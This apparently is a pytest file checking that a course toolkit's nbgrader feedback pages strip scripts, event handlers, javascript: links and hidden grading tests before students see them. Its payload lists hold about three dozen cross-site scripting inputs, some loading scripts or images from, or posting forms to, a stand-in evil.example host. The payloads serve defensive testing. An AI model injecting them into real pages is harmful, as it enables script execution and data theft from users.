"""What students get back: no hidden check, nothing that runs, no page of their own making."""

import shutil
from types import SimpleNamespace

import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from coursekit.authoring.classroom.feedback import KEPT_BACK, Feedback, SafeCells, clean
from coursekit.authoring.classroom.leaks import secrets, squeezed
from coursekit.authoring.classroom.source import exercise_set

SET = exercise_set("02")
GRADE = {"grade": True, "grade_id": "members_in", "locked": True, "points": 1, "solution": False}


@pytest.fixture
def page(tmp_path):
    """Write the page of a notebook with some cells, as nbgrader does; give it and its text."""
    shutil.copytree(SET.folder, tmp_path / "source" / SET.name)
    place = tmp_path / "autograded" / "kim" / SET.name

    def made(*cells):
        notebook = new_notebook(cells=list(cells), metadata={"title": "<script>t()</script>"})
        resources = {"metadata": {"path": str(place), "name": SET.name}}
        notebook, resources = SafeCells().preprocess(notebook, resources)
        html, _ = Feedback().from_notebook_node(notebook, resources)
        return SimpleNamespace(html=html, soup=BeautifulSoup(html, "html.parser"))

    return made


def check(*outputs, hidden="points('02.members_in', {'secret': 1})"):
    source = f'ck.check("02.members_in")\n### BEGIN HIDDEN TESTS\n{hidden}\n### END HIDDEN TESTS'
    return new_code_cell(source, outputs=list(outputs), metadata={"nbgrader": dict(GRADE)})


def said(html, text="said"):
    return new_output("display_data", {"text/html": html, "text/plain": text})


ACTIVE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/seen.png">',
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action='https://evil.example'><input name=x><button>OK</button></form>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href='javascript:alert(1)'>press</a>",
    "<a href='java&#115;cript:alert(1)'>press</a>",
    "<a href=' \tjava\nscript:alert(1)'>press</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>press</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p style='position:fixed;inset:0'>covers all</p>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<textarea></textarea><script>alert(1)</script>",
]
MARKDOWN = [
    "[press](javascript:alert(1))",
    "[press](java&#115;cript:alert(1))",
    "<javascript:alert(1)>",
    "[press][1]\n\n[1]: javascript:alert(1)",
    '![x](x"onerror="alert(1))',
    "![x](https://evil.example/seen.png)",
    "![x](javascript:alert(1))",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "$</script><script>alert(1)</script>$",
    "# <script>alert(1)</script>",
]


def harmless(page):
    """Say whether nothing on a page runs, loads or leads to something that runs."""
    soup = page.soup
    assert not soup.find_all(
        ["script", "iframe", "object", "embed", "svg", "form", "input", "base"]
    )
    assert not soup.find_all(["link", "textarea", "button"])
    assert len(soup.find_all("meta", attrs={"http-equiv": True})) == 1
    assert "evil.example" not in "".join(str(tag.attrs) for tag in soup.find_all(True))
    for tag in soup.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on")]
        address = "".join(f"{tag.get('href', '')}{tag.get('src', '')}".split()).lower()
        assert not address.startswith(("javascript:", "data:", "vbscript:"))
    assert not [tag for tag in soup.body.find_all(True) if tag.get("style")]
    assert not soup.body.find_all("style")
    return True


class TestNothingRuns:
    def whole(self, page, texts, cells):
        """Write one page of all; none may swallow what follows it."""
        after = [[*cells(text), new_markdown_cell(f"After {n}.")] for n, text in enumerate(texts)]
        made = page(*(cell for part in after for cell in part))
        assert all(f"After {n}." in made.soup.get_text() for n in range(len(texts)))
        return harmless(made)

    def test_in_what_students_write(self, page):
        def written(text):
            return new_markdown_cell(text), new_raw_cell(text)

        assert self.whole(page, [*ACTIVE, *MARKDOWN], written)

    def test_in_what_cells_and_checks_display(self, page):
        def displayed(text):
            outputs = [said(text), new_output("stream", text=text)]
            return new_code_cell("show()", outputs=outputs), check(said(text, text))

        assert self.whole(page, ACTIVE, displayed)

    def test_in_code_and_in_the_names_of_errors(self, page):
        def raised(text):
            error = new_output("error", ename=text, evalue=text, traceback=[text])
            return new_code_cell(text, outputs=[error]), check(error)

        assert self.whole(page, ACTIVE, raised)

    def test_in_kinds_of_output_that_browsers_run(self, page):
        kinds = ("application/javascript", "image/svg+xml", "text/markdown", "text/latex")
        outputs = [new_output("display_data", {kind: ACTIVE[0]}) for kind in kinds]
        assert harmless(page(new_code_cell("x", outputs=outputs), check(*outputs)))

    def test_in_metadata_and_attachments(self, page):
        cell = new_raw_cell(ACTIVE[0], metadata={"raw_mimetype": "text/html", "tags": [ACTIVE[0]]})
        text = new_markdown_cell("![x](attachment:a)")
        text["attachments"] = {"a": {"image/svg+xml": ACTIVE[3]}}
        made = page(cell, text, new_markdown_cell("![A map](attachment:map.png)"))
        assert harmless(made)
        assert "(picture: A map)" in made.soup.get_text()

    def test_the_page_forbids_scripts_to_any_browser(self, page):
        policy = page(new_markdown_cell("x")).soup.find("meta", attrs={"http-equiv": True})
        assert policy["content"].startswith("default-src 'none'")


class TestNoHiddenCheck:
    def test_the_part_that_only_marking_knows_is_cut_off(self, page):
        made = page(check(said("<p>1 of 2 checks passed</p>")))
        assert "secret" not in made.html and "BEGIN HIDDEN" not in made.html
        assert "1 of 2 checks passed" in made.html

    def test_what_own_cells_displayed_is_left_out(self, page):
        outputs = [
            new_output("stream", text="LEAK"),
            new_output("execute_result", {"text/plain": "LEAK"}),
            new_output("display_data", {"image/png": "LEAK"}),
            new_output("error", ename="LEAK", evalue="LEAK", traceback=["LEAK"]),
        ]
        made = page(new_code_cell("print(''.join(In), globals())", outputs=outputs))
        assert "LEAK" not in made.html
        assert "an error of its own kind" in made.html and "globals" in made.html

    def test_the_kind_of_error_is_told(self, page):
        error = new_output("error", ename="NameError", evalue="LEAK", traceback=[])
        made = page(new_code_cell("x", outputs=[error]))
        assert "This box stopped: NameError" in made.soup.get_text()

    def test_an_answer_that_returns_what_it_saw_of_a_check_is_not_shown(self, page):
        hidden = [text for text, kind in secrets(SET).items() if "hidden" in kind]
        assert len(hidden) > 10
        made = page(*(check(said(f"<p>It returned <code>{text}</code></p>")) for text in hidden))
        assert not [text for text in hidden if text in squeezed(made.html)]
        assert made.soup.get_text().count(KEPT_BACK) == len(hidden)

    def test_a_mark_of_hidden_tests_in_own_text_stops_nothing(self, page):
        made = page(new_code_cell("### BEGIN HIDDEN TESTS"), new_markdown_cell("END HIDDEN TESTS"))
        assert "END HIDDEN TESTS" in made.html


def test_very_much_text_does_not_hold_up_the_class(page):
    """To write a page of a table of 30,000 signs takes ten seconds."""
    made = page(*(new_markdown_cell("word " * 4000) for _ in range(20)), new_markdown_cell("end"))
    assert 10_000 < made.soup.get_text().count("word") < 20_000


class TestWhatStays:
    def test_texts_keep_their_form(self, page):
        text = "# A title\n\nSome *words*, `1 < 2`, [a page](https://example.org).\n\n- one\n- two"
        made = page(new_markdown_cell(text)).soup
        assert made.find("em").get_text() == "words"
        assert made.find("a", href="https://example.org")
        assert [item.get_text() for item in made.find_all("li")] == ["one", "two"]
        assert made.find("code").get_text() == "1 < 2"

    def test_a_worked_solution_can_be_unfolded(self):
        from coursekit.checks.result import beside

        assert clean(beside("a < b")) == beside("a < b")

    def test_the_configuration_puts_both_in_place(self, root):
        text = (root / "nbgrader_config.py").read_text(encoding="utf-8")
        assert "c.GenerateFeedback.exporter_class = feedback.Feedback" in text
        assert "    feedback.SafeCells,\n" in text
